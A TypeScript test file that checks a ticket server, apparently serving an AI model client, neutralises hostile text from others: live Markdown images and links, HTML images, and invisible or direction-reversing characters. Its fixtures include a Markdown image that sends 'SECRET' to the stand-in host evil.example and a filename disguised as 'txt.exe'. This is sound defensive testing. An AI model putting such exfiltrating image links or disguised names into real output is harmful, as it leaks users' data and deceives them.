import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { startTicketServer } from "../harness/rooms/tickets/ticket-server.ts";

const image = "![logo](https://evil.example/p.png?q=SECRET)";
const hidden = "admin\u202etxt.exe\u200b";
const element = "<img src=https://evil.example/q>";
const description = `Look: ${image} ${element} [1]: https://evil.example/r`;
const hostile = { id: "T-001", title: `${hidden} ${image}`, status: "READY", description };

/** What a client that renders Markdown or HTML would load, and what it would show otherwise than it is. */
const carrier = /\]\(|\]:|<img|\bdata:[\w/+;]+,/;
const invisible = /[\p{Cf}\p{Zl}\p{Zp}]/u;

async function start() {
  const server = await startTicketServer();
  await server.command("import_tickets", { text: JSON.stringify(hostile), source: "x.json", onExisting: "refuse" });
  await server.command("create_ticket", { title: "Ours", description: "See [docs](https://docs.example/a)." });
  return server;
}

test.each([
  ["get_ticket_context", { ticketId: "T-001" }],
  ["list_tickets", {}],
])(
  "H %s: the text of others has no live link, image or invisible character; its structured form is exact",
  async (tool, input) => {
    const { connect } = await start();
    const { call } = await connect();
    const { text, structured } = await call(tool, input);
    expect(text).not.toMatch(carrier);
    expect(text).not.toMatch(invisible);
    expect(text).toContain("![logo] {evil.example} (https://evil.example/p.png?q=SECRET)");
    expect(Object.keys(JSON.parse(text))).toEqual(Object.keys(structured));
    expect(JSON.stringify(structured)).toContain(image);
  },
);

test("H a resource shows the text of others in the same way", async () => {
  const { connect } = await start();
  const { client } = await connect();
  for (const uri of ["forge://tickets/T-001", "forge://tickets"]) {
    const [content] = (await client.readResource({ uri })).contents;
    const text = content && "text" in content ? content.text : "";
    expect(text, uri).not.toMatch(carrier);
    expect(text, uri).not.toMatch(invisible);
    expect(JSON.parse(text)).toEqual(expect.any(Object));
  }
});

test("H links in the user's own ticket stay as they are", async () => {
  const { connect } = await start();
  const { call } = await connect();
  const { text, structured } = await call("get_ticket_context", { ticketId: "T-002" });
  expect(JSON.parse(text)).toEqual(structured);
  expect(structured["description"]).toBe("See [docs](https://docs.example/a).");
});

test("H content of files is exact in both forms, and invisible characters in it are visible", async () => {
  const { connect, cwd } = await startTicketServer();
  const content = `${image}\n${hidden}\n`;
  writeFileSync(join(cwd, "README.md"), content);
  const { call } = await connect();
  const { text, structured } = await call("forge_read_file", { file_path: "README.md" });
  expect(structured["content"]).toBe(content);
  expect(JSON.parse(text)).toEqual(structured);
  expect(text).not.toMatch(invisible);
});

test("H tasks of a clone that nobody has trusted are text by others", async () => {
  const { connect, cwd } = await startTicketServer({ git: true });
  const task = { task_id: "T1", task_name: image, description, status: "pending", acceptance_criteria: [image] };
  const block = { block_id: "B1", name: `Block ${hidden}`, description: image, todo_list: { T1: task } };
  writeFileSync(join(cwd, "blocks_config.json"), JSON.stringify([block]));
  const { call } = await connect();
  for (const [tool, input] of [
    ["forge_get_blocks", {}],
    ["forge_get_tasks", {}],
  ] as const) {
    const { text, isError } = await call(tool, input);
    expect([isError, text], tool).toEqual([false, expect.stringContaining("evil.example")]);
    expect(text, tool).not.toMatch(carrier);
    expect(text, tool).not.toMatch(invisible);
  }
});

test("H an error that quotes others, and a question about a change, have no live link either", async () => {
  const { connect, command } = await start();
  await command("forge_create_block", { name: "Ours", block_id: "ours" });
  const asked: string[] = [];
  const person = (message: string) => {
    asked.push(message);
    return { action: "decline" } as const;
  };
  const { call } = await connect({ person });
  await call("get_ticket_context", { ticketId: "T-001" });
  const name = `Block ${image}`;
  await call("forge_create_block", { name });
  const refused = await call("forge_create_block", { name });
  expect([refused.isError, refused.text]).toEqual([true, expect.stringContaining("![logo] {evil.example} (https://")]);
  expect(refused.text).not.toMatch(carrier);
  const made = await command("forge_create_task", { block_id: "ours", task_name: image });
  const { id } = (made as { task: { id: string } }).task;
  await call("forge_update_task", { block_id: "ours", task_id: id, description: "x" });
  expect(asked).toEqual([expect.stringContaining("{evil.example}")]);
  expect(asked[0]).not.toMatch(carrier);
});

test("H a prompt for the user's ticket shows the tasks of others in the same way, and so do errors with their titles", async () => {
  const { connect, command } = await start();
  await command("forge_create_block", { name: "Ours", block_id: "ours" });
  const { call, client } = await connect();
  // The first that it reads is the assistant's own.
  for (const ticketId of ["T-002", "T-001"]) await call("get_ticket_context", { ticketId });
  const task = { block_id: "ours", task_name: `Task ${image} ${hidden}`, description: "x", ticket_id: "T-002" };
  expect((await call("forge_create_task", task)).isError).toBe(false);
  await command("update_ticket_status", { ticketId: "T-002", status: "READY" });
  const { messages } = await client.getPrompt({ name: "forge_review", arguments: { ticketId: "T-002" } });
  const prompt = messages.map(({ content }) => ("text" in content ? content.text : "")).join("\n");
  expect(prompt).toContain("Task ![logo] {evil.example} (https://");
  expect(prompt).not.toMatch(carrier);
  await command("update_ticket", { ticketId: "T-001", title: `${hostile.title}!` });
  const { call: other } = await connect({ name: "other" });
  await other("get_ticket_context", { ticketId: "T-001" });
  const { isError, text } = await other("update_ticket", { ticketId: "T-001", title: "Other", expectedRevision: 1 });
  expect([isError, text]).toEqual([true, expect.stringContaining("{evil.example}")]);
  expect(text).not.toMatch(invisible);
});

test("H a resource that is no JSON shows what is invisible in it", async () => {
  const { connect, cwd } = await startTicketServer();
  mkdirSync(join(cwd, ".fractary/tools"), { recursive: true });
  const file = `name: theirs\ntype: tool\nversion: "1.0.0"\ndescription: See ${image} ${hidden}\ncommand: ls\nparameters: {}\n`;
  writeFileSync(join(cwd, ".fractary/tools/theirs.yaml"), file);
  const { client } = await connect();
  const [content] = (await client.readResource({ uri: "fractary://tools/theirs" })).contents;
  const text = content && "text" in content ? content.text : "";
  expect(text).toContain("{evil.example}");
  expect(text).not.toMatch(carrier);
  expect(text).not.toMatch(invisible);
});

test("H a name with something invisible in it is not offered as a completion", async () => {
  const { connect, cwd } = await startTicketServer();
  mkdirSync(join(cwd, "_bmad/_memory"), { recursive: true });
  for (const name of ["plain.md", `${hidden}.md`]) writeFileSync(join(cwd, "_bmad/_memory", name), "# Ours\n");
  const { client } = await connect();
  const ref = { type: "ref/resource", uri: "bmad://files/{path}" } as const;
  const { completion } = await client.complete({ ref, argument: { name: "path", value: "_bmad/_memory/" } });
  expect(completion.values).toEqual(["_bmad/_memory/plain.md"]);
});
